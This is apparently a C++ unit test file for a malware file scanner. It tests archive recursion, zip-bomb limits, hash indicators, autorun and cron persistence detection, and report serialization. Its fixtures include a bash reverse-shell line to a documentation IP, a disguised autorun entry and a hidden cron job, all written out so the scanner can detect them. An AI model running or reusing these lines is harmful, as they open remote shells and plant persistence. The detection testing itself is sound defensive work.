// SPDX-License-Identifier: Apache-2.0
#include "scan/file_judge.h"

#include <random>

#include "detect/intel/indicator.h"
#include "scan/scan_test_tools.h"

namespace picket::scan {
namespace {

// Bytes that look like a program of `size`; the same seed gives the same ones.
std::string program(size_t size, unsigned seed) {
  std::mt19937 random(seed);
  std::string out =
      "\x7f"
      "ELF\x02\x01\x01";
  while (out.size() < size) out += static_cast<char>(random());
  return out;
}

const std::string kShell = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";

class FileJudgeTest : public JudgeTest {};

TEST_F(FileJudgeTest, NamesHashesAndKind) {
  const FileReport report = judge("plain", "hello");
  EXPECT_EQ(report.kind, FileKind::kOther);
  EXPECT_EQ(report.sha256, "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824");
  EXPECT_EQ(report.md5, "5d41402abc4b2a76b9719d911017c592");
  EXPECT_TRUE(report.findings.empty());
}

TEST_F(FileJudgeTest, LooksIntoArchivesAndArchivesInThem) {
  const std::string inner = zip_of({{"deep/run.sh", kShell}});
  const FileReport report =
      judge("a.zip", zip_of({{"readme", "fine"}, {"photo.jpg.exe", "MZ"}, {"in.zip", inner}}));
  EXPECT_EQ(report.kind, FileKind::kArchive);
  EXPECT_TRUE(has(report, "scan.double_extension", "photo.jpg.exe"));
  EXPECT_TRUE(has(report, "yara.script_reverse_shell", "in.zip!deep/run.sh"));
  EXPECT_EQ(report.members, 4u);
  EXPECT_EQ(report.note, "");
}

TEST_F(FileJudgeTest, ArchivesHaveBounds) {
  JudgeLimits few;
  few.members_max = 2;
  const auto many = zip_of({{"1", "x"}, {"2", "x"}, {"3", kShell}});
  EXPECT_NE(judge("m.zip", many, few).note.find("too many members"), std::string::npos);
  JudgeLimits small;
  small.unpacked_bytes_max = 1000;
  const auto bomb = zip_of({{"zeros", std::string(100'000, '\0')}});
  EXPECT_NE(judge("b.zip", bomb, small).note.find("too large unpacked"), std::string::npos);
  JudgeLimits flat;
  flat.depth_max = 1;
  const auto nested = zip_of({{"in.zip", zip_of({{"x", kShell}})}});
  EXPECT_NE(judge("d.zip", nested, flat).note.find("too deep"), std::string::npos);
  JudgeLimits bytes;
  bytes.bytes_max = 10;
  EXPECT_NE(judge("long", std::string(100, 'x'), bytes).note, "");
}

TEST_F(FileJudgeTest, DamagedArchivesAreSaidToBe) {
  std::string broken = zip_of({{"a", std::string(5000, 'y')}, {"b", kShell}});
  broken.resize(60);
  EXPECT_NE(judge("broken.zip", broken).note, "");
}

TEST_F(FileJudgeTest, FindsCopiesAndNearCopiesOfWhatIsRemembered) {
  FileJudge judge(content_);
  const std::string wanted = program(60'000, 1);
  judge_with(judge, "wanted", wanted, true);
  EXPECT_TRUE(has(judge_with(judge, "same", wanted, false), "scan.like"));
  std::string near = wanted;
  near.replace(30'000, 200, std::string(200, 'z'));
  EXPECT_TRUE(has(judge_with(judge, "near", near, false), "scan.like"));
  EXPECT_FALSE(has(judge_with(judge, "other", program(60'000, 2), false), "scan.like"));
  EXPECT_TRUE(has(judge_with(judge, "in.zip", zip_of({{"it", wanted}}), false), "scan.like", "it"));
}

TEST_F(FileJudgeTest, KnowsHashesOfLists) {
  detect::intel::IndicatorSet set;
  const auto md5 = detect::intel::make_indicator(detect::intel::IndicatorKind::kMd5,
                                                 "5d41402abc4b2a76b9719d911017c592");
  ASSERT_TRUE(md5);
  set.add(*md5, "bad.txt");
  set.seal();
  content_.indicators = &set;
  EXPECT_TRUE(has(judge("x", "hello"), "bad.txt"));
  EXPECT_FALSE(has(judge("x", "hallo"), "bad.txt"));
}

TEST_F(FileJudgeTest, AutorunIsJudgedAsOnALiveMachine) {
  const FileReport bad = judge("AUTORUN.INF",
                               "[autorun]\r\nopen=RECYCLER\\S-1-5\\photo.jpg.exe\r\n"
                               "action=Open folder to view files\r\nicon=shell32.dll,4\r\n");
  EXPECT_TRUE(has(bad, "autorun_drive"));
  EXPECT_FALSE(
      has(judge("autorun.inf", "[autorun]\r\nicon=setup.ico\r\nlabel=CD\r\n"), "autorun_drive"));
}

TEST_F(FileJudgeTest, PersistencePointsAreReadByTheirPlace) {
  const FileReport report =
      judge("image/etc/cron.d/job", "MAILTO=root\n* * * * * root /dev/shm/.x/run >/dev/null\n");
  ASSERT_EQ(report.started.size(), 1u);
  EXPECT_EQ(report.started[0].program, "/dev/shm/.x/run");
  EXPECT_TRUE(has(report, "scan.persistence"));
}

TEST(Report, SurvivesTheWayThroughAMessage) {
  FileReport report;
  report.kind = FileKind::kScript;
  report.note = std::string("a\0b", 3);
  report.started = {{"cron", "x", "/x"}};
  Finding finding;
  finding.rule_id = "r";
  finding.facts = {{"n", "v"}};
  report.findings = {finding};
  const auto back = unpacked(as_bytes(packed(report)));
  ASSERT_TRUE(back);
  EXPECT_EQ(packed(*back), packed(report));
  EXPECT_EQ(back->findings[0].facts[0].value, "v");
  const std::string message = packed(report);
  for (size_t size = 0; size < message.size(); ++size)
    EXPECT_FALSE(unpacked(as_bytes(std::string_view(message).substr(0, size))));
}

TEST(Report, IsBounded) {
  FileReport report;
  Finding finding;
  finding.reason = std::string(10'000, 'x');
  report.findings.assign(1000, finding);
  report.started.assign(1000, {"cron", std::string(10'000, 'y'), "/x"});
  const std::string message = packed(report);
  EXPECT_LE(message.size(), FileReport::kBytesMax + FileReport::kTextMax * 3);
  const auto back = unpacked(as_bytes(message));
  ASSERT_TRUE(back);
  EXPECT_LE(back->findings.size(), FileReport::kFindingsMax);
  EXPECT_GT(Counter::value_of("scan.findings_max"), 0u);
}

}  // namespace
}  // namespace picket::scan
